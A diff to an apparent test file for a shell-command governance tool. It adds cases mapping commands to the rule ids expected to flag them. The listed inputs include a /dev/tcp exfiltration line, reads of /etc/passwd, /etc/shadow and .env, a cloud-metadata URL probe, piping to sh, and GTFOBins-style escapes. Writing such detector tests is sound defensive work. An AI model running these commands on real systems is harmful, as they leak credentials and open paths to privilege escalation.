@@ -51,7 +51,9 @@ def test_strictest_part_reported(gov, workspace):
     ("rg --pre id x", "shell.gtfobins"), ("chmod u+s x", "shell.gtfobins"), ("ls > /dev/tcp/1.2.3.4/80", "shell.dev-tcp"),
     ("curl file:///etc/passwd", "shell.file-url"), ("curl http://0x7f.1/", "url.odd-ip-encoding"),
     ("curl http://169.254.169.254/", "url.non-public-address"), ("/tmp/evil", "shell.path-executable"),
-    ("cd - && ls", "shell.cd"),
+    ("cd - && ls", "shell.cd"), ("git -C . -c core.pager=x log", "shell.gtfobins"), ("jq -L / x", "shell.gtfobins"),
+    ("awk -e '{print}' /etc/shadow", "files.secret"), ("git show HEAD:.env", "files.secret"),
+    ("date -s 2020-01-01", "shell.system-change"), ("ls | tee >(sh)", "shell.interpreter-stdin"),
 ])
 def test_builtin_rules(gov, workspace, cmd, rule):
     d = sh(gov, workspace, cmd)
@@ -66,6 +68,8 @@ def test_builtin_rules(gov, workspace, cmd, rule):
     ("cat $HOME/x", "shell.dynamic-argument"), ("echo $(date)", "shell.dynamic-argument"),
     ("awk -f prog.awk x", "shell.awk-program-file"), ("sed -i 's/a/b/' x", "shell.sed-in-place"),
     ("sed 'v' x", "shell.sed-script"), ("tail -f notes.txt", "shell-follow-forever"),
+    ("sort -o out.txt notes.txt", "shell.writes-file"), ("uniq notes.txt out.txt", "shell.writes-file"),
+    ("git log --output=x", "shell.writes-file"), ("cat $(printf /etc/shadow)", "shell.dynamic-argument"),
 ])
 def test_ask_cases(gov, workspace, cmd, rule):
     d = sh(gov, workspace, cmd)
